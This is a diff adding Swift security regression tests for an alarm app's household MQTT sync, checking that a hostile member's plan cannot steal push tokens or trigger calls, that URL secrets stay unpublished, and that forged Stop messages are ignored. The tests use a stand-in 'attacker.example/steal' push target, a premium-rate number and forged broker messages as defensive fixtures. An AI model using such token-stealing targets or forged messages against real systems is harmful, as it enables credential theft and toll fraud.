@@ -1,0 +1,143 @@
+import DoseTapAgent
+import DoseTapCore
+import DoseTapLinux
+import DoseTapStore
+import DoseTapTesting
+import Foundation
+import Testing
+
+/// Issue #25 against a real mosquitto on loopback with a user per device and the ACL of docs/household.md:
+/// a member's own plan cannot spend another device's money or leak its token, a forged Stop silences
+/// nothing, a `once` alarm has one occurrence.
+extension HouseholdServiceTests {
+    static let topicLevel = HouseholdTopic.slug("Jen's family")
+    static let members = ["jen-laptop", "bedroom-pi", "kitchen", "garage"]
+
+    /// A client of the broker with `user`'s password (garage: a member with no agent, run by someone hostile).
+    func connectedClient(_ user: String, broker: PrivateBroker.Broker, will: Bool = false) async throws -> MQTTClient {
+        let client = try MQTTClient(clientID: "\(user)-\(UUID().uuidString.prefix(6))", username: user, password: PrivateBroker.password(for: user),
+                                    will: will ? .init(topic: HouseholdTopic.peer(device: user).topic(household: Self.topicLevel),
+                                                       payload: HouseholdMessage.encode(PeerMessage.offline)) : nil)
+        try await client.connect(host: "127.0.0.1", port: broker.port)
+        return client
+    }
+
+    func occurrences(_ member: Member, owner: String) -> [OccurrenceKey] {
+        ((try? HouseholdRepository(database: member.database).occurrences()) ?? []).map(\.key).filter { $0.owner == owner }
+    }
+
+    @Test("#25 finding 1: a member's retained plan naming an attacker's push and a premium number — no agent sends its push token off its host, nobody calls")
+    func memberPlanTollFraud() async throws {
+        try await PrivateBroker.run(users: Self.members, acl: PrivateBroker.householdACL(Self.topicLevel)) { broker in
+            let h = try await household(broker, targets: ["device:bedroom-pi", "push:\(Self.push)"], users: true)
+            let garage = try await connectedClient("garage", broker: broker, will: true)
+            let now = Int64(h.clock.now().timeIntervalSince1970)
+            let targets = [BackupTarget.push("http://attacker.example/steal"), .phone("+19005550100")]
+            func publish(_ topic: HouseholdTopic, _ payload: [UInt8]) throws {
+                try garage.publish(topic.topic(household: Self.topicLevel), payload, retain: true)
+            }
+            // In its own name, as the ACL allows: online, an occurrence two minutes ago, and one a minute ahead.
+            try publish(.peer(device: "garage"), HouseholdMessage.encode(PeerMessage(online: now)))
+            try publish(.plan(owner: "garage", alarmID: 1),
+                        HouseholdMessage.encode(PlanMessage(label: "Wake", time: "04:48", occurrences: [now - 120], targets: targets)))
+            try publish(.plan(owner: "garage", alarmID: 2),
+                        HouseholdMessage.encode(PlanMessage(label: "Wake", time: "04:51", occurrences: [now + 60], targets: targets)))
+            for member in h.all {
+                try await until("\(member.name) to keep garage's plans") { occurrences(member, owner: "garage").count == 2 }
+            }
+            // Then it is "gone": its last will.
+            garage.dropConnection()
+            for member in h.all {
+                try await until("\(member.name) to see garage gone") { member.service.peers["garage"] == false }
+            }
+            try await run(h, to: Self.at(-1))
+            let requests = h.all.flatMap { $0.http.requests.withLock { $0 } }
+            let stolen = requests.filter { $0.url.contains("attacker.example") && $0.headers["Authorization"] != nil }
+            #expect(stolen.isEmpty, "a push token went to the attacker: \(stolen.map(\.url))")
+            let calls = requests.filter { $0.url.hasSuffix("/Calls.json") }
+            #expect(calls.isEmpty, "a call was placed for garage's plan: \(calls.map { String(decoding: $0.body, as: UTF8.self) })")
+            let late = requests.filter { $0.url.contains("attacker.example") && $0.url.hasSuffix("/steal") && $0.body.count > 0 }
+            // The occurrence planned after it had passed is never acted on (at most the one planned ahead pushes, without a token).
+            #expect(late.count <= 1, "pushes for garage: \(late.count)")
+            stopAll(h)
+        }
+    }
+
+    @Test("#25 finding 1: a push URL's user, password and query are never published; the owner still pushes to the whole URL")
+    func pushSecretsNotPublished() async throws {
+        try await PrivateBroker.run { broker in
+            let secretURL = "http://jen:hunter2@127.0.0.1:9/jen?auth=tk_SECRET"
+            let planTopic = HouseholdTopic.plan(owner: "jen-laptop", alarmID: 1).topic(household: Self.topicLevel)
+            let observer = try await BrokerObserver(port: broker.port, name: "plans", subscriptions: [planTopic], clock: TimerFDScheduler.shared)
+            let h = try await household(broker, targets: ["device:bedroom-pi", "push:\(secretURL)"])
+            try await until("the plan on the broker") { observer.message(planTopic) != nil }
+            let text = try #require(observer.last(planTopic))
+            #expect(!text.contains("hunter2") && !text.contains("tk_SECRET") && !text.contains("jen:"), "published: \(text)")
+            let plan = try JSONDecoder().decode(PlanMessage.self, from: Data(text.utf8))
+            #expect(plan.targets == ["device:bedroom-pi", "push:http://127.0.0.1:9/jen"])
+            try await run(h, to: Self.at(4.2))
+            try await until("the owner to push") { h.owner.http.urls == [secretURL] }
+            stopAll(h)
+        }
+    }
+
+    @Test("#25 finding 2: a Stop forged by a member — for the coming occurrence, or in the owner's name while it rings — silences nothing")
+    func forgedStopByMember() async throws {
+        try await PrivateBroker.run(users: Self.members, acl: PrivateBroker.householdACL(Self.topicLevel)) { broker in
+            let h = try await household(broker, targets: ["device:bedroom-pi", "device:kitchen"], users: true)
+            let forger = try await connectedClient("kitchen", broker: broker)
+            let t = key(0)
+            func stop(_ topic: String, by: String, at: Int64) throws {
+                try forger.publish("dosetap/\(Self.topicLevel)/\(topic)", HouseholdMessage.encode(AnswerMessage(by: by, at: at, target: nil)), retain: true)
+            }
+            // Ten minutes ahead: Stops of the coming occurrence, dated after it, in every name, on every topic tried.
+            for by in ["jen-laptop", "bedroom-pi", "kitchen"] {
+                try stop("answer/jen-laptop/1/\(t)/stop", by: by, at: t + 1)
+                try stop("answer/kitchen/jen-laptop/1/\(t)/stop", by: by, at: t + 1)
+                try stop("answer/\(by)/jen-laptop/1/\(t)/stop", by: by, at: t + 1)
+            }
+            try await run(h, to: Self.at(2))
+            try await until("bedroom-pi to ring despite the Stops sent in advance") { h.bedroom.rang == [key(2)] }
+
+            // While the owner's alarm rings: a Stop in the owner's name, now.
+            let now = Int64(h.clock.now().timeIntervalSince1970)
+            try stop("answer/jen-laptop/1/\(t)/stop", by: "jen-laptop", at: now)
+            try stop("answer/kitchen/jen-laptop/1/\(t)/stop", by: "jen-laptop", at: now)
+            // Messages of one publisher arrive in order: once this plan is kept, the forged Stops were handled.
+            try forger.publish(HouseholdTopic.plan(owner: "kitchen", alarmID: 9).topic(household: Self.topicLevel),
+                               HouseholdMessage.encode(PlanMessage(label: "Sync", time: "05:00", occurrences: [t + 86_400],
+                                                                   targets: [.device("bedroom-pi")])), retain: false)
+            for member in [h.owner, h.bedroom] {
+                try await until("\(member.name) to handle the forged messages") { occurrences(member, owner: "kitchen").count == 1 }
+            }
+            #expect(h.owner.primaryStops.value.isEmpty, "the owner's alarm was stopped by a forged Stop")
+            for member in h.all {
+                let forged = ((try? HouseholdRepository(database: member.database).answers()) ?? []).filter { $0.kind == .stop }
+                #expect(forged.isEmpty, "\(member.name) kept a forged Stop: \(forged)")
+            }
+            try await run(h, to: Self.at(4.1))
+            #expect(h.kitchen.rang == [key(4)], "the cascade went on")
+            forger.disconnect()
+            stopAll(h)
+        }
+    }
+
+    @Test("#25: the ACL of docs/household.md is the one these tests give the broker")
+    func documentedACL() throws {
+        let docs = try String(contentsOf: Fixtures.packageRoot.appendingPathComponent("docs/household.md"), encoding: .utf8)
+        let documented = docs.split(separator: "\n").map(String.init).filter { $0.hasPrefix("pattern ") }
+        #expect(documented == PrivateBroker.householdACL("jen-s-family").split(separator: "\n").map(String.init))
+    }
+
+    @Test("#25 finding 10: a once alarm is planned for the household with exactly one occurrence")
+    func onceAlarmOneOccurrence() async throws {
+        try await PrivateBroker.run { broker in
+            let h = try await household(broker, targets: ["device:bedroom-pi", "push:\(Self.push)"], repetition: "once")
+            try await until("the owner to publish its plan") { occurrences(h.owner, owner: "jen-laptop").count >= 1 }
+            for member in h.all {
+                #expect(occurrences(member, owner: "jen-laptop").map(\.at) == [key(0)], "\(member.name): \(occurrences(member, owner: "jen-laptop"))")
+            }
+            stopAll(h)
+        }
+    }
+}
